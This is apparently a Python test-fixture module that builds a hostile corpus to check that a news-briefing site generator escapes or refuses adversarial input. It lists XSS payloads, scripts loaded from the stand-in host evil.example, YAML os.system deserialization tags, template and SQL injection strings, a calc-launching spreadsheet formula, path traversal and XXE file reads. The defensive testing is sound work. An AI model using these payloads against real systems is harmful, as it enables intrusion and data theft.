"""A briefing of hostile seeds: every text that might become markup, in every place where a text may stand.

    planted = plant(root)        # seeds/, their sidecars, briefing.yml and mkdocs.yml
    planted[0].shown             # what the page of that seed must show, word for word

The code in all of them calls ``alert`` or sets the title to ``ran``; a browser that was told to listen hears it.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass
from pathlib import Path

import yaml

from tests.conftest import ROOT

# Each as it might stand in a text; short enough for a headline.
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" onload="alert(1)">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>deep</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    '<meta http-equiv=refresh content="99;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>Send</button></form>",
    "<button formaction=javascript:alert(1) onclick=alert(1)>Press</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>one</select>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<link rel=stylesheet href="//evil.example/x.css" onload=alert(1)>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>sum</math>",
    "<details open ontoggle=alert(1)><summary>More</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<marquee onstart=alert(1)>news</marquee>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<p onmouseover=alert(1) style=position:fixed;inset:0>hover</p>",
    "<a href=javascript:alert(1)>click</a>",
    "<b tabindex=1 onfocus=alert(1) onclick=alert(1)>bold</b>",
    "<div contenteditable oninput=alert(1)>edit</div>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
    "</title><script>alert(1)</script>",
    "</h1></header></main></body></html><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    "<style>",
    "<title>",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<!-- the rest is gone",
    "--><script>alert(1)</script><!--",
    "<![CDATA[ never ends",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/hostname'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a id=content name=briefingSearch></a><form id=__config></form>",
    "<img name=getElementById><img id=documentElement>",
)
LINKS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)> and <https://evil.example/>",
    '![picture](x"onerror="alert(1))',
    "[source]: javascript:alert(1) 'a reference'",
    "[source][] and [source] and ![source][source]",
    "[a]: <javascript:alert(1)>",
)
MARKDOWN = (
    "{: onclick=alert(1) #content .skip style='display:none' }",
    "words {: #__config } and more { .hidden onmouseover=alert(1) }",
    "# __config",
    "## content {#__search}",
    "Kirby: the onus is on him",
    "--- title: no front matter ---",
    "1986. A great year",
    "+ plus - minus * star",
    "*one* **two** ***three*** _four_ __five__ 2*3*4",
    "~~gone~~ H~2~O x^2^ ==marked== ++new++",
    "`code` ``more`` ```fence",
    "~~~ python",
    "> quoted >> deeper",
    "| a | b | c |",
    "*[HTML]: an abbreviation",
    "[^1] and [^1]: a footnote",
    "[TOC]",
    "term : definition",
    "- [x] a task [ ] another",
    "!!! note is no admonition",
    '??? note "a fold"',
    '=== "a tab"',
    "/// html | div.hidden onclick=alert(1)",
    '--8<-- "mkdocs.yml"',
    ';--8<-- "/etc/hostname"',
    ":smile: :material-skull: :octicons-x-16:",
    "++ctrl+alt+del++",
    "{++added++} {--removed--} {~~old~>new~~} {>>note<<} {==mark==}",
    "<!-- material/tags --> <!-- more -->",
    "<!-- md:option x -->",
    "$x^2$ $$y$$ \\(z\\) \\[\\href{javascript:alert(1)}{w}\\]",
    "http://evil.example/ www.evil.example a@evil.example",
    "\x5c* \x5c_ \x5c< \x5c\x5c",
    "wzxhzdk:0 klzzwxh:0 STX ETX",
    "template: 404.html",
    "search: exclude: true",
)
CODE = (
    "{{ config }} {{ 7*7 }} {% raw %}",
    "{% include 'main.html' %} {# gone #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "!!python/object/apply:os.system [id]",
    "*alias &anchor <<: merge",
    "%s %(x)s {0} {n} {title}",
    "__proto__ constructor toString hasOwnProperty",
    "../../etc/passwd %2e%2e/ C:\\CON",
    "'; DROP TABLE seeds; --",
    "=cmd|'/c calc'!A1",
    "$& $1 \\1 \\g<0>",
)
SIGNS = (
    "bell \x07 escape \x1b[31m and \x85 next",
    "line\u2028paragraph\u2029separators",
    "override \u202egnp.exe and \u2066isolate",
    "embedding \u202bwithout end \u2067and again",
    "zero\u200bwidth \ufeffspace and \u2060joiner",
    "right \u200fto left mark and \u200eback",
    "noncharacters \ufffe \uffff \ufdd0 here",
    "الخبر العاجل 12 · 34",
    "כותרת (בסוגריים) 5–10!",
    "Zalgo e\u0301\u0302\u0303\u0304\u0305 text",
    "emoji 👩\u200d👩\u200d👧 and 🏴\U000e0067\U000e0062\U000e007f flag",
    "ＦＵＬＬＷＩＤＴＨ ＜script＞alert(1)＜/script＞",
    "ʼnon-breaking\u00a0space\u3000wide",
)
TEXTS = (*MARKUP, *LINKS, *MARKDOWN, *CODE, *SIGNS)

# Addresses that must never become a link, wherever a page or an editor writes them.
UNSAFE_ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//http://a.example/x",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/x",
    "//evil.example/x",
    "https:alert(1)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "https://user:secret@a.example/x",
    "https://[bad/x",
)
LEGAL_ADDRESS = "https://a.example/x'onmouseover=alert(1)//?u=javascript:alert(1)&v=%3Cscript%3E;(['#p1"

# Front matter, sidecars and briefing.yml that must be refused, each with a word of the reason.
BAD_YAML = (
    ("a: &a [x, x]\nb: &b [*a, *a]\ntitle: *b\n", "anchor"),
    ("title: !!python/object/apply:os.system ['true']\n", "tag"),
    ("title: !ENV HOME\n", "tag"),
    ("title: !<tag:yaml.org,2002:binary> aGk=\n", "tag"),
    ("<<: *x\n", "alias"),
    ("title: " + "[" * 5_000 + "\n", ""),
    ("title: {" + "a: {" * 500 + "\n", ""),
    ('title: "\\ud800"\n', ""),
    ("title: a\ntitle: b\n", "already"),
    ("? [title]\n: x\n", "key"),
    ("title: a\n---\ntitle: b\n", "second YAML document"),
)

_PEOPLE = ("Ida Brandt", "Otto Lindqvist", "Clara Okafor", "Henry Marsh", "Nora Petersen", "Samuel Weiss")


@dataclass(frozen=True, slots=True)
class Planted:
    """A seed and the texts that its page must show; none where the seed is no article and is left out."""

    id: str
    title: str
    shown: tuple[str, ...]
    is_read: bool = True


def seen(text: str) -> str:
    """What a reader sees of ``text``: white space folded, without controls."""
    from briefing.marked_yaml import clean

    return clean(text)


def plant(root: Path, texts: tuple[str, ...] = TEXTS, large: bool = True) -> list[Planted]:
    """Write a whole hostile briefing at ``root``."""
    (root / "seeds").mkdir(parents=True)
    writers = (_text_seed, _markdown_seed, _page_seed)
    planted = []
    for number, text in enumerate(texts):
        planted.append(writers[number % 3](root, number, text))
        _sidecar(root, planted[-1].id, number, text)
    planted += [_raw_page(root, number, markup) for number, markup in enumerate(RAW_PAGES)]
    planted += [_raw_markdown(root, number, markup) for number, markup in enumerate(RAW_MARKDOWN)]
    planted += [_addressed_page(root, number, address) for number, address in enumerate(UNSAFE_ADDRESSES)]
    planted += [_large_seed(root, name, content) for name, content in LARGE.items()] if large else []
    _settings(root, texts)
    return planted


def end_of(name: str) -> str:
    return f"This is the end of the text {name}."


# ----------------------------------------------------------------------------------------------------------- seeds


def _paragraphs(number: int, text: str) -> tuple[str, ...]:
    person = _PEOPLE[number % len(_PEOPLE)]
    day = f"{number % 27 + 1} March 2024"
    return (
        f"{text} is what the harbour of Lindow wrote in its report number {number}, which came out on {day}.",
        f"“We have read {text} in the papers,” said {person}, a captain of the port, in Lindow on Monday.",
        f"More than {number + 40} boats wait for {text} outside, and £{number + 3} million has been paid for {text}",
        text,
        f"Then {text}, and {text}; again {text}!",
        f"[{text}]({text})",
    )


def _text_seed(root: Path, number: int, text: str) -> Planted:
    name = f"text-{number:03}"
    lines = (text, *_paragraphs(number, text), f"    {text}", end_of(name))
    (root / "seeds" / f"{name}.txt").write_bytes("\n\n".join(lines).encode("utf-8"))
    return Planted(name, text, (text, *_paragraphs(number, text), end_of(name)))


def _markdown_seed(root: Path, number: int, text: str) -> Planted:
    """What is written with references to characters is the text that they stand for."""
    name = f"markdown-{number:03}"
    header = {"title": text, "source": text, "author": [text], "tags": [text], "url": LEGAL_ADDRESS, "lead": text}
    blocks = [_referenced(paragraph) for paragraph in _paragraphs(number, text)]
    marked = f"## {_referenced(text)}\n\n- {_referenced(text)}\n\n> {_referenced(text)} stands here"
    body = "\n\n".join([*blocks, marked, end_of(name)])
    content = f"---\n{yaml.safe_dump(header, allow_unicode=True)}---\n\n{body}\n"
    (root / "seeds" / f"{name}.md").write_bytes(content.encode("utf-8"))
    return Planted(name, text, (text, *_paragraphs(number, text), end_of(name)))


def _page_seed(root: Path, number: int, text: str) -> Planted:
    """A saved page that says it in every place where pages speak of themselves."""
    name = f"page-{number:03}"
    safe = html.escape(text)
    statement = {
        "@type": "NewsArticle", "headline": text, "author": [{"name": text}], "publisher": {"name": text},
        "url": LEGAL_ADDRESS, "keywords": [text, "harbour"], "articleSection": text, "datePublished": "2024-03-05",
    }  # fmt: skip
    json_ld = json.dumps(statement).replace("<", "\\u003c")
    body = "".join(f"<p>{html.escape(paragraph)}</p>\n" for paragraph in _paragraphs(number, text))
    page = (
        f'<html lang="en"><head><title>{safe}</title><meta property="og:title" content="{safe}">'
        f'<meta property="og:site_name" content="{safe}"><meta name="author" content="{safe}">'
        f'<meta name="description" content="{safe}"><link rel="canonical" href="{html.escape(LEGAL_ADDRESS)}">'
        f'<script type="application/ld+json">{json_ld}</script></head>'
        f"<body><article><h1>{safe}</h1>\n{body}<p>{end_of(name)}</p></article></body></html>"
    )
    (root / "seeds" / f"{name}.html").write_bytes(page.encode("utf-8"))
    return Planted(name, text, (end_of(name),))


def _referenced(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " or ord(c) > 127 else f"&#{ord(c)};" for c in text)


# Pages as they might be saved: their markup is not text, and must not come through either.
RAW_PAGES = (
    *MARKUP[:39],
    "<script type=application/ld+json>{\"headline\": \"</script><script>alert(1)</script>\"}</script>",
    '<script type="application/ld+json">[[[{"@graph": [{"@type": "NewsArticle", "headline": {"x": 1}}]}]]]</script>',
    '<script type="application/ld+json">{"@type": "NewsArticle", "headline": "<img src=x onerror=alert(1)>", '
    '"author": "<script>alert(1)<\\/script>", "datePublished": "9999-99-99", "url": {"@id": "javascript:alert(1)"}}'
    "</script>",
    '<meta property="og:title" content="&quot;><script>alert(1)</script>">',
    '<meta name="author" content="</title><script>alert(1)</script>"><meta name="keywords" content="<b>,</b>">',
    '<html lang="&quot; onclick=alert(1)"><meta charset="rot13"><title><script>alert(1)</script></title>',
    f"<title>{'endless ' * 900}</title><h1>{'endless ' * 900}</h1>",
    '<p style="display:none" hidden>Hidden words of the page.</p><p onclick=alert(1)>Seen words of the page.</p>',
)  # fmt: skip
RAW_MARKDOWN = (
    *LINKS,
    *MARKDOWN[:32],
    f"# {'endless ' * 900}",
    "<script>alert(1)</script>\n\n<style>*{display:none}</style>\n\n<div markdown=1 onclick=alert(1)>\n\n# in a div\n",
    "---\n\n---\ntitle: a second header\ntemplate: 404.html\n---",
    "title: no header\ntemplate: 404.html\n\n# __config\n\n# content\n\n# __search\n\n# p1\n\n# related",
)


def _raw_page(root: Path, number: int, markup: str) -> Planted:
    name = f"raw-page-{number:03}"
    sentences = f"The harbour of Lindow was closed for the {number}th time after a storm on Monday, and boats wait."
    page = f"{markup}<article><h2>Storm {number}</h2><p>{sentences}</p><p>{end_of(name)}</p></article>"
    if re.match(r"<(style|title|textarea|plaintext|xmp|!--|!\[CDATA)", markup):
        page = f"<article><p>{sentences}</p><p>{end_of(name)}</p></article>{markup}"
    (root / "seeds" / f"{name}.html").write_text(page, "utf-8")
    return Planted(name, "", (end_of(name),))


def _raw_markdown(root: Path, number: int, markup: str) -> Planted:
    name = f"raw-markdown-{number:03}"
    words = f"Storm {number} was no storm at all, the harbour of Lindow wrote on Monday, and boats went out."
    (root / "seeds" / f"{name}.md").write_text(f"{markup}\n\n{words}\n\n{markup}\n\n{end_of(name)}\n", "utf-8")
    return Planted(name, "", (end_of(name),))


def _addressed_page(root: Path, number: int, address: str) -> Planted:
    name = f"address-{number:03}"
    safe = html.escape(address)
    json_ld = json.dumps({"@type": "NewsArticle", "url": address, "mainEntityOfPage": address}).replace("<", "\\u003c")
    page = (
        f'<link rel="canonical" href="{safe}"><meta property="og:url" content="{safe}">'
        f'<script type="application/ld+json">{json_ld}</script>'
        f'<article><h1>Where number {number} came from</h1><p>The harbour of Lindow was <a href="{safe}">closed</a> on '
        f"Monday after the storm number {number} tore its terraces away.</p><p>{end_of(name)}</p></article>"
    )
    (root / "seeds" / f"{name}.html").write_bytes(page.encode("utf-8"))
    (root / "seeds" / f"{name}-header.md").write_bytes(
        f"---\nurl: {json.dumps(address)}\n---\n\nAn address in a header, number {number}, is not to be followed.\n\n"
        f"{end_of(name)}\n".encode()
    )
    return Planted(name, "", (end_of(name),))


_SENTENCE = "The harbour of Lindow was closed on Monday, and the captains of forty boats went home "
# Texts of absurd size: read where that ends in time, left out where not.
LARGE: dict[str, str] = {
    "brackets.md": "[" * 8_000,
    "brackets.txt": "[" * 8_000,
    "lists.md": "\n".join("  " * level + "- x" for level in range(300)),
    "quotations.md": "> " * 300 + "deep",
    "one-line.txt": "word " * 200_000,
    "one-word.txt": "x" * 1_000_000,
    "long-word.txt": "x" * 45_000,
    "long-sentence.txt": (_SENTENCE * 300).strip(),
    "long-heading.md": "# " + (_SENTENCE * 300).strip(),
    "long-heading.html": f"<h1>{_SENTENCE * 300}</h1>",
    "headings.md": "# h\n" * 100_000,
    "headings.html": "<h1>h</h1>" * 90_000,
    "code.html": "<pre>" + "code\n" * 9_900 + "</pre>",
    "signs.txt": "\n\n".join(["<" * 40_000] * 12),
    "tags.html": "<b><i><a href=x>" * 2_500 + "words",
    "nested.html": "<div>" * 50_000 + "deep words",
    "comments.html": "<!--" * 100_000,
    "attributes.html": "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">words</p>",
    "entities.html": "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><p>&b; words</p>",
    "outside.html": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><p>&a; words</p>",
}  # fmt: skip
_UNREAD = ("one-line", "one-word", "headings", "comments", "nested", "tags")


def _large_seed(root: Path, file: str, content: str) -> Planted:
    stem, _, suffix = file.partition(".")
    name = f"large-{stem}-{suffix}"
    end = f"<p>{end_of(name)}</p>" if suffix == "html" and stem != "comments" else f"\n\n{end_of(name)}\n"
    (root / "seeds" / f"{name}.{suffix}").write_text(content + end, "utf-8")
    return Planted(name, "", (end_of(name),), is_read=stem not in _UNREAD)


# -------------------------------------------------------------------------------------------- sidecars and settings


def _sidecar(root: Path, seed_id: str, number: int, text: str) -> None:
    """Every key that takes a text has it; every fifth seed has other rights than the full."""
    values: dict[str, object] = {
        "note": f"{text} is what the editor notes.",
        "bottom_line": f"{text} is why it matters.",
        "licence": f"{text} 4.0",
        "topics": [text, "Harbours"],
        "correction": [{"date": "2024-03-09", "text": f"{text} was wrong."}],
    }
    if number % 2:
        values |= {"title": text, "source": text, "authors": [text, "Nia Rees"], "url": LEGAL_ADDRESS}
    if number % 4 == 1:
        values |= {"summary": [f"{text} sums it up."], "story": f"{text} goes on", "language": "ar"}
    if number % 7 == 3:
        values |= {"rights": ("excerpt", "link", "withdrawn")[number // 7 % 3], "reason": text}
    if seed_id.startswith("text-"):
        values["quotes"] = [{"text": f"We have read {seen(text)} in the papers,", "speaker": text}]
        values["keep"] = [seen(text)]
    (root / "seeds" / f"{seed_id}.yml").write_text(yaml.safe_dump(values, allow_unicode=True), "utf-8")


def _settings(root: Path, texts: tuple[str, ...]) -> None:
    sources = {
        seen(text): {"url": LEGAL_ADDRESS, "rights": "full", "licence": text, "country": text, "note": text}
        for text in texts[::9]
    }
    topics = {seen(text): {"terms": ["boats", text], "description": text} for text in texts[4::29]}
    names: dict[str, object] = {
        seen(texts[(5 * number + 3) % len(texts)]): {"kind": kind, "also": [person]}
        for number, (person, kind) in enumerate(zip(_PEOPLE, ("person", "organisation", "place") * 2, strict=True))
    }
    front = {"intro": texts[0], "sections": list(topics)[:2]}
    settings = {"sources": sources, "topics": topics, "names": names, "front_page": front, "contact": texts[0]}
    (root / "briefing.yml").write_text(yaml.safe_dump(settings, allow_unicode=True, sort_keys=False), "utf-8")
    site = (ROOT / "mkdocs.yml").read_text("utf-8")
    site = re.sub(r"^site_name: .*$", lambda _: f"site_name: {json.dumps(MARKUP[36])}", site, flags=re.M)
    site = re.sub(r"^site_description: .*$", lambda _: f"site_description: {json.dumps(texts[3])}", site, flags=re.M)
    (root / "mkdocs.yml").write_text(site, "utf-8")
    if not (root / "overrides").exists():
        (root / "overrides").symlink_to(ROOT / "overrides", target_is_directory=True)
